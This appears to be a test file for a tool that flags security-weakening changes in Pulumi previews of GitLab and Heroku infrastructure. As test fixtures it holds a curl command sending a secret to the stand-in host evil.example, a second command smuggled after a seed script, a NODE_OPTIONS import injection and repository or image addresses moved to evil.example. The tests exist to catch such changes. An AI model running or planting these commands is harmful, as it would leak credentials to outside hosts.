/** What used to pass unseen: commands, providers, options, images, new variables, and rules under another pattern. */
import { describe, expect, it } from "vitest";
import type { Rank } from "../../../lib/kinds/comparers.ts";
import type { State, Step } from "../../../lib/pulumi/preview.ts";
import { type Properties, UNKNOWN, type Value } from "../../../lib/pulumi/values.ts";
import {
  changed,
  created,
  deleted,
  judge,
  judgeOutputs,
  madeOf,
  project,
  SECRET,
  type Type,
  told,
  urn,
} from "./steps.ts";

const seed = "node infra/commands/seed-repository.ts";
const lines = (...steps: Step[]) => told({ steps: [project("same"), ...steps] });

describe("a new command", () => {
  it("is told with its text, and without secrets", () => {
    const inputs = {
      create: 'curl -d "$T" https://evil.example',
      environment: { T: SECRET, API_TOKEN: "canary", A: "b" },
    };
    expect(lines(created("command", inputs))).toEqual([
      'WEAKER? command it: new; runs: curl -d "$T" https://evil.example; with T=[secret], API_TOKEN [secret], A=b',
    ]);
  });

  const environment = {
    GITLAB_TOKEN: SECRET,
    REPOSITORY_URL: "https://gitlab.com/ml/a.git",
    TEMPLATE: "models/a",
  };
  const old: Step = {
    op: "same",
    urn: urn("command", "old"),
    oldState: { inputs: { project: "1", create: seed, environment } },
    newState: { inputs: { project: "1", create: seed, environment } },
  };
  const another = (inputs: Properties, more: Partial<State> = {}) =>
    lines(old, created("command", { create: seed, ...inputs }, more)).length;
  const made = madeOf("environment", urn("project", "wine"));

  it.each<[number, string, Properties, Partial<State>]>([
    [
      0,
      "for a project of the stack",
      { environment: { ...environment, REPOSITORY_URL: UNKNOWN, TEMPLATE: "models/b" } },
      made,
    ],
    [
      1,
      "for another repository",
      { environment: { ...environment, REPOSITORY_URL: "https://evil.example/a.git" } },
      made,
    ],
    [1, "for one that nobody knows", { environment: { ...environment, REPOSITORY_URL: UNKNOWN } }, {}],
    [1, "with something new", { environment: { ...environment, NODE_OPTIONS: "--import=./x.mjs" } }, {}],
    [1, "by another shell", { environment, interpreter: ["sh", "x"] }, {}],
    [1, "that is no program of the repository", { environment, create: `${seed}; curl x` }, {}],
    [1, "with another deletion", { environment, delete: "curl x" }, {}],
  ])("has %i lines where it is the stack's own one more time %s", (count, _, inputs, more) => {
    expect(another(inputs, more)).toBe(count);
  });
});

describe("a changed command", () => {
  it.each<[Properties, Properties, string[]]>([
    [{ create: seed }, { create: "curl x" }, [`WEAKER? command it: runs: ${seed} -> curl x`]],
    [{ create: "a", stdin: "x" }, { create: "a", stdin: "y" }, ["WEAKER? command it: gets as input: x -> y"]],
    [
      { create: "a", triggers: ["1"] },
      { create: "a", triggers: ["2"] },
      ["WEAKER? command it: runs again for another: 1 -> 2"],
    ],
    [{ create: seed, triggers: ["1"] }, { create: seed, triggers: ["2"] }, []],
    [
      { create: "a", environment: { URL: "x" } },
      { create: "a", environment: { URL: "y" } },
      ["WEAKER? command it: environment.URL: x -> y"],
    ],
    [
      { create: seed, environment: { REPOSITORY_URL: "https://a" } },
      { create: seed, environment: { REPOSITORY_URL: "https://b" } },
      ["WEAKER? command it: repository: https://a -> https://b (its token is sent there)"],
    ],
    [{ create: seed, environment: { TEMPLATE: "a" } }, { create: seed, environment: { TEMPLATE: "b" } }, []],
    [
      { create: seed, logging: "none" },
      { create: seed, logging: "stdout" },
      ["WEAKER command it: shown while it runs: none -> stdout"],
    ],
  ])("%j -> %j", (before, after, expected) => {
    expect(lines(changed("command", before, after))).toEqual(expected);
  });
});

describe("a value that follows from other resources", () => {
  const image = "registry.example/ml/runtime@sha256:1";
  const from = (before: string[], after: string[]): Step => {
    const step = changed(
      "variable",
      { key: "RUNTIME_IMAGE", value: image },
      { key: "RUNTIME_IMAGE", value: UNKNOWN },
    );
    return {
      ...step,
      oldState: { ...step.oldState, propertyDependencies: { value: before } },
      newState: { ...step.newState, propertyDependencies: { value: after } },
    };
  };

  it("is counted where it is made of the same as before, and told where it is not", () => {
    const [own, other] = [urn("image", "runtime"), urn("command", "other")];
    expect(lines(from([own], [own]))).toEqual([]);
    expect(lines(from([own], [other])).join()).toMatch(/^WEAKER\? variable RUNTIME_IMAGE/);
    expect(lines(from([], [])).join()).toMatch(/^WEAKER\? variable RUNTIME_IMAGE/);
  });
});

describe("options of a resource", () => {
  const rule = { tag: "v*" };
  const step = (type: Type, inputs: Properties, before: Partial<State>, after: Partial<State>): Step => ({
    op: "same",
    urn: urn(type),
    oldState: { id: "1", inputs, ...before },
    newState: { id: "1", inputs, ...after },
  });
  const provider = (name: string, id: string) => ({ provider: `${urn("gitlab", name)}::${id}` });

  it.each<[string, Rank[], Step]>([
    ["no longer set", ["weaker"], step("tag", rule, {}, { ignoreChanges: ["createAccessLevel"] })],
    ["set again", [], step("tag", rule, { ignoreChanges: ["createAccessLevel"] }, {})],
    [
      "no longer set, and harmless",
      [],
      step("variable", { key: "A" }, {}, { ignoreChanges: ["description"] }),
    ],
    ["a credential that stays behind", ["weaker"], step("token", {}, {}, { retainOnDelete: true })],
    ["a rule that stays behind", ["unclear"], step("tag", rule, {}, { retainOnDelete: true })],
    ["taken for gone", ["unclear"], step("tag", rule, {}, { deletedWith: urn("project") })],
    [
      "an output that is no longer secret",
      ["weaker"],
      step("token", {}, { additionalSecretOutputs: ["token"] }, {}),
    ],
    [
      "another output that is secret",
      ["stronger"],
      step("token", {}, {}, { additionalSecretOutputs: ["token"] }),
    ],
    ["an alias", ["unclear"], step("tag", rule, {}, { aliases: [urn("tag", "old")] })],
    ["another name", ["unclear"], step("tag", rule, { urn: urn("tag", "old") }, { urn: urn("tag") })],
    ["a hook less", ["unclear"], step("tag", rule, { resourceHooks: { beforeUpdate: ["guard"] } }, {})],
    ["a hook more", [], step("tag", rule, {}, { resourceHooks: { beforeUpdate: ["guard"] } })],
    ["another provider", ["unclear"], step("tag", rule, provider("gitlab", "1"), provider("other", "2"))],
    ["the same provider anew", [], step("tag", rule, provider("gitlab", "1"), provider("gitlab", UNKNOWN))],
    [
      "a default provider anew",
      [],
      step("tag", rule, provider("default_1", "1"), provider("default_2", "2")),
    ],
    [
      "an explicit provider no longer",
      ["unclear"],
      step("tag", rule, provider("gitlab", "1"), provider("default_2", "2")),
    ],
    [
      "no longer after a rule",
      ["unclear"],
      step("variable", { key: "A" }, { dependencies: [urn("tag", "v*")] }, {}),
    ],
    [
      "the same in another order",
      [],
      step("tag", rule, { dependencies: ["a", "b"] }, { dependencies: ["b", "a"] }),
    ],
    ["more time", [], step("tag", rule, {}, { customTimeouts: { create: 9 } })],
    ["one that nobody knows", ["unclear"], step("tag", rule, {}, { optionOfTomorrow: true })],
    [
      "a new rule that is left as it is",
      ["neutral", "weaker"].sort() as Rank[],
      created("tag", rule, { ignoreChanges: ["createAccessLevel"] }),
    ],
    [
      "a new token, as the program makes it",
      ["unclear"],
      created("token", { name: "a" }, { ignoreChanges: ["expiresAt", "rotationConfiguration"] }),
    ],
  ])("%s", (_, ranks, one) => {
    expect(
      judge(project("same"), one)
        .findings.map(({ rank }) => rank)
        .sort(),
    ).toEqual(ranks);
  });

  it("are no change in another order, which differs from run to run", () => {
    const rules = [urn("tag", "v*"), urn("tag", "v**")];
    const turned = step(
      "variable",
      { key: "A" },
      { dependencies: rules },
      { dependencies: [...rules].reverse() },
    );
    expect(judge(project("same"), turned).changes).toEqual([]);
  });

  it("name both providers with their addresses, once for all that move", () => {
    const account = (name: string, baseUrl: string): Step => ({
      op: "same",
      urn: urn("gitlab", name),
      oldState: { inputs: { baseUrl } },
      newState: { inputs: { baseUrl } },
    });
    const moved = (type: Type) =>
      step(type, { ...rule, key: "A", project: "1" }, provider("gitlab", "1"), provider("other", "2"));
    expect(
      lines(account("gitlab", "https://a"), account("other", "https://b"), moved("tag"), moved("variable")),
    ).toEqual([
      "WEAKER? 2 resources of ml/server (tags, variable): provider: gitlab, https://a -> other, https://b (another service or account gets it, with its values)",
    ]);
  });

  it("tells a secret that becomes plain, though the provider sees no difference", () => {
    const one = { ...step("variable", { key: "HEROKU_API_KEY", value: SECRET }, {}, {}) };
    const plain = { ...one, newState: { ...one.newState, inputs: { key: "HEROKU_API_KEY", value: "x" } } };
    expect(judge(plain).findings).toMatchObject([{ rank: "weaker", attribute: "value" }]);
  });
});

describe("images", () => {
  const at = (baseImage: string) => ({ build: { args: { BASE_IMAGE: baseImage } } });
  it.each<[Rank, string, string]>([
    ["neutral", "python:3.11", "python:3.12"],
    ["neutral", "python:3.11", "docker.io/library/python:3.12"],
    ["unclear", "python:3.11", "evil.example/python:3.11"],
    ["unclear", "python:3.11", "evil/python:3.11"],
    ["unclear", "localhost:5000/a:1", "localhost:5001/a:1"],
    ["weaker", "python:3.11@sha256:1", "python:3.11"],
  ])("%s: %s -> %s", (rank, before, after) => {
    expect(judge(changed("image", at(before), at(after))).findings).toMatchObject([{ rank }]);
  });
});

describe("a new variable", () => {
  const made = madeOf("value", urn("token", "access"));
  const of = (key: string, value: Value) => ({ key, value, protected: true, masked: value === SECRET });
  it.each<[Rank, string, Step]>([
    [
      "unclear",
      "new variable; job logs then show every variable",
      created("variable", of("CI_DEBUG_TRACE", "true")),
    ],
    [
      "unclear",
      "new variable; packages may be installed from elsewhere",
      created("variable", of("PIP_INDEX_URL", "x")),
    ],
    [
      "unclear",
      "new variable; jobs may run in another image",
      created("variable", of("DOCKER_CLI_IMAGE", "x")),
    ],
    ["unclear", "new variable; jobs may do something else by it", created("variable", of("WHATEVER", "x"))],
    [
      "unclear",
      "new credential; a credential that the stack does not make",
      created("variable", of("MLSERVER_REPO", SECRET)),
    ],
    ["neutral", "new credential", created("variable", of("MLSERVER_REPO", SECRET), made)],
    ["neutral", "new variable", created("variable", of("GIT_USER_NAME", "x"))],
    ["weaker", "new, and open", created("variable", { ...of("GIT_USER_NAME", "x"), variableType: "file" })],
  ])("%s: %s", (rank, words, step) => {
    const [finding] = judge(project("same"), step).findings;
    expect(finding?.rank).toBe(rank);
    expect(finding?.note).toContain(words);
  });
});

describe("a rule under another pattern", () => {
  const moved = (before: string, after: string, more: Properties = {}) =>
    lines(
      { ...created("tag", { tag: after, ...more }), urn: urn("tag", after) },
      deleted("tag", { tag: before }),
    );
  it("is told in one line, and in the right words", () => {
    expect(moved("v*", "*")).toEqual([
      "WEAKER? tags v* of ml/server: protected tags: v* -> * (all of v* stays protected; more refs see the credentials)",
    ]);
    expect(moved("v*", "v1*")).toEqual([
      "WEAKER tags v* of ml/server: protected tags: v* -> v1* (refs that only v* covers are no longer protected)",
    ]);
    expect(moved("v*", "*", { createAccessLevel: "developer" })).toEqual([
      "WEAKER tags v* of ml/server: who may create: Maintainers -> Developers",
      expect.stringContaining("v* -> *"),
    ]);
    expect(moved("v*", "release-*")).toContainEqual(
      expect.stringContaining("WEAKER tags v* of ml/server: no longer protected"),
    );
  });
});

describe("what somebody changed outside", () => {
  const state = (createAccessLevel: string): State => ({
    id: "1",
    inputs: { project: "1", tag: "v*", createAccessLevel },
    outputs: { project: "1", tag: "v*", createAccessLevel },
  });
  const steps = (applied: string, now: string, wanted: string): Step[] => [
    {
      op: "update",
      urn: urn("tag"),
      oldState: state(applied),
      newState: state(now),
      detailedDiff: { createAccessLevel: { kind: "update" } },
    },
    now === wanted
      ? { op: "same", urn: urn("tag"), oldState: state(now), newState: state(wanted) }
      : {
          ...changed("tag", {}, {}),
          oldState: state(now),
          newState: state(wanted),
          detailedDiff: { createAccessLevel: { kind: "update" } },
        },
  ];

  it.each<[Rank, string, [applied: string, now: string, wanted: string]]>([
    ["stronger", "put back from weaker", ["maintainer", "developer", "maintainer"]],
    ["neutral", "put back from stronger", ["maintainer", "no one", "maintainer"]],
    ["weaker", "taken over from weaker", ["maintainer", "developer", "developer"]],
    ["weaker", "made weaker than it was applied", ["maintainer", "no one", "developer"]],
    ["stronger", "taken over from stronger", ["maintainer", "no one", "no one"]],
  ])("%s: %s", (rank, _, [applied, now, wanted]) => {
    expect(judge(project("same"), ...steps(applied, now, wanted)).findings).toMatchObject([{ rank }]);
  });

  it("and is made again as it was applied needs no approval", () => {
    const variable = { key: "HEROKU_REGISTRY", value: "registry.heroku.com", protected: true };
    const back = (inputs: Properties) =>
      judge(project("same"), deleted("variable", variable), created("variable", inputs));
    expect(back(variable).weaker).toBe(false);
    expect(back({ ...variable, value: "evil.example" }).weaker).toBe(true);
  });
});

it.each<[Rank[], Properties, Properties]>([
  [["weaker"], { tokens: SECRET }, { tokens: ["a"] }],
  [["weaker"], {}, { adminPassword: "a" }],
  [["unclear"], {}, { more: "a" }],
  [[], { appUrl: "a" }, { appUrl: "b" }],
  [[], { appUrl: "a" }, {}],
  [[], {}, { credentialAddresses: { "heroku:url": "https://api.heroku.com" } }],
  [["weaker"], {}, { credentialAddresses: { "heroku:url": "https://me:password-1@api.example.com" } }],
])("outputs of the stack: %j for %j -> %j", (ranks, before, after) => {
  expect(judgeOutputs({ before, after }).findings.map(({ rank }) => rank)).toEqual(ranks);
});

describe("an app that was deleted outside, dropped from the state and made again", () => {
  const knownBy = (name: string): Step => {
    const inputs = { project: "1", key: "HEROKU_APP", value: name };
    return { op: "same", urn: urn("variable", "app"), oldState: { inputs }, newState: { inputs } };
  };
  const appWith = (inputs: Properties): Step => ({
    op: "create",
    urn: urn("heroku:app/app:App"),
    newState: { inputs: { name: "ours", region: "us", stack: "container", ...inputs } },
  });

  it.each<[string, string, Properties, string[]]>([
    ["is put back", "ours", {}, ["neutral app ours: put back as the stack made it; somebody deleted it"]],
    ["is told under another name", "another", {}, ["WEAKER? app ours: new app"]],
    ["is told in a team", "ours", { organization: { name: "t" } }, ["WEAKER? app ours: new app"]],
    ["is told in another region", "ours", { region: "eu" }, ["WEAKER? app ours: new app"]],
    ["is told with config vars", "ours", { configVars: { A: "b" } }, ["WEAKER? app ours: new app"]],
  ])("%s", (_, known, inputs, wanted) => {
    expect(lines(knownBy(known), appWith(inputs)).map((line) => line.trimEnd())).toEqual(wanted);
  });
});
